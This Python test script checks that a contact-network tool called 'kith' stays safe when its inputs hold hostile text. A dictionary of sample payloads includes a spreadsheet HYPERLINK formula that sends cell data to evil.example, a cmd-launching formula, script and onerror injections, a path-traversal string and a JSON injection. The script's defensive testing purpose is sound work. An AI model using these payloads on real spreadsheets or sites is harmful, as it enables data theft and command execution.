#!/usr/bin/python3
"""Names made to harm whoever looks at them: terminals, spreadsheets, browsers and readers of XML.

Usage: hostile_text.py KITH
Whatever the inputs hold, text has no control character and nothing that turns the direction of writing, no CSV cell
begins as a formula, pages hold no markup but their own, and JSON and XML are what they say.
"""

import csv
import html.parser
import io
import json
import re
import sys
import xml.etree.ElementTree
from pathlib import Path

from bad_day import COHORT, content, fault, finish, kith, names, work_folder

ATTACKS = {
    "escape": "\x1b[31mRed\x1b]0;title\x07",
    "c1": "C1\x9b31m\x85next",
    "bell": "Bell\x07\x08\x7f",
    "bidi": "Rtl\u202egnp.exe\u2066x\u2069",
    "invisible": "Zero\u200b\u200e\u200f\u2028\u2029\ufeffwidth",
    "link": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1|calc",
    "minus": "-2+3|calc",
    "tab": "\t=1+1",
    "return": "\r=1+1\r\n=2+2",
    "wide": "＝1+1",
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "ampersand": "&lt;b&gt; &amp; ]]><!--",
    "path": "../../etc/passwd",
    "format": "%s%n%s%x",
    "null": "nul\0byte",
    "json": '","admin":true,"x":"\\',
    "percent": "\ufffe\uffff\U000e0041",
}

# Cc but the newline, and what Unicode has to turn directions, hide or end lines.
DANGEROUS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
EVERYONE = "owner:no"
WORKS = {
    "info": ("info", "net.kith", "--rejects", "--merges"),
    "merges": ("info", "net.kith", "--merges"),
    "rejects": ("info", "net.kith", "--rejects"),
    "find": ("find", "net.kith", EVERYONE, "--with-contacts"),
    "intro": ("intro", "net.kith", "--from", "me", "--to", EVERYONE, "--top", "0", "--with-contacts"),
    "bridges": ("bridges", "-q", "net.kith", "--top", "0"),
    "cohort": ("cohort", "-q", "net.kith", "--group", "company", "--top", "0"),
    "chains": ("chains", "-q", "net.kith", "--top", "0"),
    "diff": ("diff", "-q", "harmless-names.csv", "net.kith", "--top", "0", "--group", "company", "--with-contacts"),
}


def cell(text):
    return '"' + text.replace('"', '""') + '"'


def write_names():
    """The people of the sheet before their texts attacked, but for their ids."""
    rows = [",".join(map(cell, (f"id-{kind}{text}", "Somebody", "A place"))) for kind, text in ATTACKS.items()]
    Path("harmless-names.csv").write_text("\n".join(["id,name,company", *rows]) + "\n", encoding="utf-8", newline="")


def write_inputs():
    """An export of connections, a sheet of people and one of mentorships, in which every text attacks."""
    Path("in/own").mkdir(parents=True)
    rows = ["First Name,Last Name,URL,Email Address,Company,Position,Connected On"]
    for i, (kind, text) in enumerate(ATTACKS.items()):
        rows.append(",".join((cell(text), cell(f"{kind} {text}"), f"https://www.linkedin.com/in/p{i}-{kind}",
                              f"{kind}@evil.example", cell(text), cell(text), f"{i % 27 + 1:02} Jan 2020")))
        rows.append(",".join((cell(text), "", "not a link", "", cell(text), cell(text), "no date")))
    Path("in/own/Connections.csv").write_text("\n".join(rows) + "\n", encoding="utf-8", newline="")
    people = ["id,name,company,title,skills,goals,cohort,role"]
    mentorships = ["mentor,mentee,start,programme,cohort,status"]
    kinds = list(ATTACKS)
    for i, (kind, text) in enumerate(ATTACKS.items()):
        people.append(",".join(map(cell, (f"id-{kind}{text}", f"{text}{kind}", *[text] * 6))))
        other = kinds[(i + 1) % len(kinds)]
        mentor, mentee = f"id-{kind}{text}", f"id-{other}{ATTACKS[other]}"
        mentorships.append(",".join(map(cell, (mentor, mentee, f"20{i + 2:02}-01-01", text, text, "active"))))
        mentorships.append(",".join(map(cell, (mentor, mentor, *[text] * 4))))
    Path("in/people.csv").write_text("\n".join(people) + "\n", encoding="utf-8", newline="")
    Path("in/mentorships.csv").write_text("\n".join(mentorships) + "\n", encoding="utf-8", newline="")
    Path("in/\x1b[2J\u202e<b>=1+1.txt").write_text("nothing that kith reads, \x1b[2J\n", encoding="utf-8")


def hold_text(told, text):
    found = DANGEROUS.search(text)
    if found:
        fault(f"{told}: holds U+{ord(found[0]):04X}: {text[max(0, found.start() - 40):found.end() + 20]!r}")


def is_formula(value):
    """What a spreadsheet may compute; a number is none, and signs may stand alone."""
    if re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", value):
        return False
    return value.lstrip(" ")[:1] in tuple("=+-@\t\r＝＋－＠") and len(value) > 1


def hold_csv(told, text):
    hold_text(told, text)
    for row in csv.reader(io.StringIO(text, newline="")):
        for value in row:
            if is_formula(value):
                fault(f"{told}: a cell begins as a formula: {value[:40]!r}")


class Page(html.parser.HTMLParser):
    """Reads a page, and finds markup that pages of harmless people do not have."""
    harmless = set()  # tags, with the names of their attributes

    def __init__(self, told, text):
        super().__init__()
        self.told, self.met, self.is_data = told, set(), False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.met.add((tag, *sorted(name for name, _ in attributes)))
        self.is_data = ("type", "application/json") in attributes
        for name, value in attributes:
            if name != "aria-label" and "evil.example" in (value or ""):  # labels are read out, not followed
                fault(f"{self.told}: <{tag} {name}={value}>")

    def handle_data(self, data):
        if self.is_data:
            if self.lasttag == "script" and re.search("[<>&]", data):
                fault(f"{self.told}: data holds markup")
        elif self.lasttag in ("script", "style") and "alert(1)" in data:
            fault(f"{self.told}: a script of the inputs stands in <{self.lasttag}>")


def learn_harmless_markup():
    """Pages about the cohort show all markup there is."""
    kith("build", "-q", COHORT, "-o", "cohort.kith")
    for name, words in WORKS.items():
        words = ["Noor Haddad" if word == "me" else "cohort.kith" if word == "net.kith" else word for word in words]
        kith(*words, "-o", "harmless.html")
        Page.harmless |= Page(name, content("harmless.html").decode()).met
    kith("report", "-q", "cohort.kith", "--from", "Noor Haddad", "--to", EVERYONE, "-o", "harmless")
    Page.harmless |= Page("report", content("harmless/index.html").decode()).met


def hold_page(told, text):
    hold_text(told, text)
    page = Page(told, text)
    if page.met - Page.harmless:
        fault(f"{told}: has markup that is not ours: {page.met - Page.harmless}")
    if "default-src 'none'" not in text:
        fault(f"{told}: has no policy")


def hold_json(told, text):
    hold_text(told, text)
    for line in text.splitlines() if ".jsonl" in told else [text]:
        json.loads(line)


def hold_xml(told, text):
    hold_text(told, text)
    xml.etree.ElementTree.fromstring(text)


HOLD = {".csv": hold_csv, ".html": hold_page, ".json": hold_json, ".jsonl": hold_json, ".graphml": hold_xml}


def hold_file(name):
    suffix = Path(name.removesuffix(".gz")).suffix
    if suffix == ".kith":
        return 0
    try:
        HOLD.get(suffix, hold_text)(name, content(name).decode("utf-8"))
    except (ValueError, xml.etree.ElementTree.ParseError) as wrong:
        fault(f"{name}: is not what its ending says: {wrong}")
    return 1


def hold_said(kind, text):
    """What comes back from the command line, and names of files, are told as safely."""
    for words in (("find", "net.kith", text), ("intro", "net.kith", "--from", text, "--to", text), ("info", text),
                  (text,), ("find", "net.kith", f'company:"{text}'), ("info", "net.kith", f"--{text}"),
                  ("info", "net.kith", "-o", f"{text}/no/folder.json"), ("check", text),
                  ("export", "net.kith", "-o", text)):
        _, out, err = kith(*words, ok=range(79))
        hold_text(f"kith {words[0]!r} with {kind}", out + err)


def main():
    work_folder()
    write_names()
    learn_harmless_markup()
    write_inputs()
    _, out, err = kith("build", "-v", "in", "--owner", "in/own=Ann Lee", "-o", "net.kith", "--rejects", "rejected.csv")
    hold_text("build", out + err)
    held = 0
    for name, words in WORKS.items():
        hold_text(name, "".join(kith(*words)[1:]))
        for ending in ("txt", "json", "html") if name == "info" else ("txt", "csv", "json", "jsonl", "html"):
            kith(*words, "-o", f"{name}.{ending}")
    for name in ("net.graphml", "net.gml", "net.net", "net.dot", "ties.csv", "net.jsonl"):
        kith("export", "net.kith", "--with-contacts", "-o", name)
    kith("export", "net.kith", "--format", "tables", "-o", "tables", "--with-contacts")
    kith("report", "-q", "net.kith", "--from", "me", "--to", EVERYONE, "--with-contacts", "-o", "report")
    for name in names():
        if Path(name).is_file() and not name.startswith(("in/", "cohort", "harmless")):
            held += hold_file(name)
    for kind, text in ATTACKS.items():
        if "\0" not in text:
            hold_said(kind, text)
    return finish(f"hostile_text: {len(ATTACKS)} attacks came to nothing in {held} files")


if __name__ == "__main__":
    sys.exit(main())
